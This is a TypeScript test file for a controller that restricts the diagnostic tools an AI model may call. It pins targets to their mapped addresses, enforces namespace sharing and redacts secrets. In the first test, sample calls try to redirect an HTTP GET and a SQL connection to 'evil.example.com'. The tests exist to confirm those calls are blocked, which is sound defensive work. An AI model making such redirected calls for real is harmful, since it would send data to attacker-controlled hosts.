import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../controller/api/json.ts';
import type { ServiceTopology } from '../../../controller/api/kinds.ts';
import type { Dependencies, ToolUse } from '../../../controller/session/dependencies.ts';
import { looksFor, type Look } from '../../../controller/session/diagnosing/looks.ts';
import { readsOf } from '../../../controller/session/diagnosing/reads.ts';
import type { Snapshot } from '../../../controller/session/snapshot.ts';
import type { ProbeTarget, ResolvedGraph } from '../../../controller/topology/resolved.ts';
import { servers, skills } from '../../../skills/catalogue.ts';
import { shopTopology } from '../../helpers/session/shop.ts';

const signal = new AbortController().signal;
const snapshot = { session: { metadata: { namespace: 'default' } } } as unknown as Snapshot;
const tools = servers.flatMap((server) => server.tools);

function targetOf(node: string, id: string, parameters: JsonObject, map = shopTopology()): ProbeTarget {
  const skill = skills.find((one) => one.id === id);
  if (skill === undefined) throw new Error(`there is no skill ${id}`);
  return { node, name: node, type: 'any', skill, with: parameters, topology: map } as unknown as ProbeTarget;
}

/** Of a tool that no skill asks for. */
const searchInput = { type: 'object', required: ['repo', 'query'], properties: { repo: {}, query: {} } };

/** What was called, as the skills' servers would see it. */
function depsWith(
  calls: JsonObject[],
  answer: JsonObject = {},
  further: (server: string) => readonly string[] = () => [],
): Dependencies {
  const broker = {
    furtherReads: ({ skill: { server } }: ToolUse) => ({ server, tools: further(server) }),
    definitionOf: async (_: unknown, name: string) => {
      const tool = tools.find((one) => one.name === name);
      if (name.startsWith('search_')) return { description: name, input: searchInput };
      if (tool === undefined) throw new Error(`${name} is away`);
      return { description: tool.description, input: tool.input };
    },
    toolsFor: () => ({
      call: async (tool: string, args: JsonObject) => {
        calls.push({ tool, ...args });
        return answer;
      },
    }),
  };
  return { tools: broker } as unknown as Dependencies;
}

async function offered(targets: readonly ProbeTarget[], deps: Dependencies) {
  const resolved = { targets } as unknown as ResolvedGraph;
  const { looks, gaps } = await looksFor(snapshot, deps, resolved, signal);
  return { looks, gaps, reads: readsOf(snapshot, deps, resolved, looks) };
}

const named = (looks: readonly Look[], name: string): Look | undefined => looks.find((look) => look.name === name);

describe('what a model may look at', () => {
  it('is where the map says, whatever it asks for', async () => {
    const calls: JsonObject[] = [];
    const deps = depsWith(calls);
    const page = targetOf('edge/shop', 'http-health', { url: 'https://shop.example.com/health' });
    const db = targetOf('shop/db', 'postgres', { host: 'db.example.com', database: 'shop' });
    const secret = targetOf('shop/other', 'postgres', {});
    const { looks, reads } = await offered([page, db, secret], deps);
    const get = named(looks, 'http-health__http_get');
    expect(JSON.stringify(get?.input)).not.toContain('"url"');
    expect(get?.placed).toEqual(['url']);
    const call = (name: string, node: string, args: JsonObject) =>
      reads.find((read) => read.name === name)?.call({ node, arguments: args }, signal);
    await call('http-health__http_get', 'edge/shop', { url: 'https://evil.example.com/?d=1', method: 'HEAD' });
    await call('postgres__execute_sql', 'shop/db', { sql: 'select 1', connection: { host: 'evil.example.com' } });
    await call('postgres__execute_sql', 'shop/other', { sql: 'select 1' });
    expect(calls).toEqual([
      { tool: 'http_get', url: 'https://shop.example.com/health', method: 'HEAD' },
      { tool: 'execute_sql', sql: 'select 1', connection: { host: 'db.example.com', database: 'shop' } },
      { tool: 'execute_sql', sql: 'select 1' },
    ]);
  });

  it('has no address left open among its arguments', async () => {
    const open = ['url', 'host', 'port', 'connection', 'owner', 'repo', 'context', 'namespace', 'origins', 'endpoint'];
    const targets = skills.map((skill) => targetOf(`shop/${skill.id}`, skill.id, { repository: 'acme/shop' }));
    const { looks } = await offered(targets, depsWith([]));
    expect(looks.length).toBeGreaterThan(30);
    const left = looks.flatMap(({ name, input }) => {
      const { arguments: args } = input['properties'] as { arguments: { properties?: object } };
      return Object.keys(args.properties ?? {}).flatMap((key) => (open.includes(key) ? [`${name}: ${key}`] : []));
    });
    // A metric's namespace is a part of its name.
    expect(left.filter((one) => !one.endsWith('__get_metric_data: namespace'))).toEqual([]);
  });

  it('is its own namespace’s, and what another’s lets it act on', async () => {
    const foreign = (access: 'Findings' | 'Act'): ServiceTopology => {
      const map = shopTopology({ sharedWith: [{ namespace: 'default', access }] });
      return { ...map, metadata: { ...map.metadata, namespace: `team-${access.toLowerCase()}` } };
    };
    const [seen, acted] = (['Findings', 'Act'] as const).map((access) =>
      targetOf(`${access}/db`, 'redis', { host: 'redis.example.com' }, foreign(access)),
    );
    expect((await offered(seen === undefined ? [] : [seen], depsWith([]))).looks).toEqual([]);
    expect((await offered(acted === undefined ? [] : [acted], depsWith([]))).looks.length).toBeGreaterThan(0);
  });

  it('is told without its secrets, in whatever shape they come', async () => {
    const password = ['hunter2', 'correct', 'horse'].join('-');
    const answer = { environment: [{ name: 'DB_PASSWORD', type: 'plain', value: password }] };
    const { reads } = await offered([targetOf('shop/ecs', 'aws-ecs', {})], depsWith([], answer));
    const text = await reads[0]?.call({ node: 'shop/ecs', arguments: {} }, signal);
    expect(text).toContain('DB_PASSWORD');
    expect(text).not.toContain(password);
  });

  it('is all that a ToolServer lists to be read, once, and where the map says', async () => {
    const calls: JsonObject[] = [];
    const deps = depsWith(calls, {}, (server) => (server === 'github' ? ['search_code'] : []));
    const ids = ['github', 'code-reader', 'redis'];
    const targets = ids.map((id) => targetOf(`shop/${id}`, id, { repository: 'acme/shop', host: 'redis.example.com' }));
    const { looks, reads } = await offered(targets, deps);
    const [search, ...others] = looks.filter(({ tool }) => tool === 'search_code');
    expect([search?.name, search?.placed, others]).toEqual(['github__search_code', ['repo'], []]);
    const read = reads.find(({ name }) => name === search?.name);
    await read?.call({ node: 'shop/github', arguments: { query: 'pool', repo: 'other' } }, signal);
    expect(calls).toEqual([{ tool: 'search_code', query: 'pool', repo: 'shop' }]);
  });

  it('is what any map’s ToolServer lists, not only the first one’s', async () => {
    const other = shopTopology();
    const named = { ...other, metadata: { ...other.metadata, name: 'other' } };
    const deps = depsWith([], {}, (server) => (server === 'redis' ? ['search_keys'] : []));
    const only = (topology: string): Dependencies => {
      const furtherReads = (use: ToolUse) =>
        use.topology === topology ? deps.tools.furtherReads(use) : { server: 'built in', tools: [] };
      return { tools: { ...deps.tools, furtherReads } } as unknown as Dependencies;
    };
    const parameters = { host: 'redis.example.com' };
    const targets = [targetOf('shop/db', 'redis', parameters), targetOf('other/db', 'redis', parameters, named)];
    for (const map of ['default/shop', 'default/other']) {
      const { looks } = await offered(targets, only(map));
      expect(looks.filter(({ tool }) => tool === 'search_keys')).toHaveLength(1);
    }
    expect((await offered(targets, only('default/none'))).looks.map(({ tool }) => tool)).not.toContain('search_keys');
  });

  it('is no more of a ToolServer than a model reads, and it is said', async () => {
    const many = Array.from({ length: 40 }, (_, index) => `search_${index}`);
    const deps = depsWith([], {}, () => many);
    const { looks, gaps } = await offered([targetOf('shop/db', 'redis', { host: 'redis.example.com' })], deps);
    expect(looks.filter(({ tool }) => tool.startsWith('search_'))).toHaveLength(32);
    expect(gaps).toHaveLength(8);
    expect(gaps[0]).toBe('search_32 is not offered: there are too many tools');
  });

  it('that is away is a gap', async () => {
    const target = targetOf('shop/db', 'redis', { host: 'redis.example.com' });
    const skill = { ...target.skill, tools: { read: ['no_such_tool'], write: [] } };
    const { looks, gaps } = await offered([{ ...target, skill }], depsWith([]));
    expect([looks, gaps]).toEqual([[], ['redis: no_such_tool is not offered: Error: no_such_tool is away']]);
  });
});
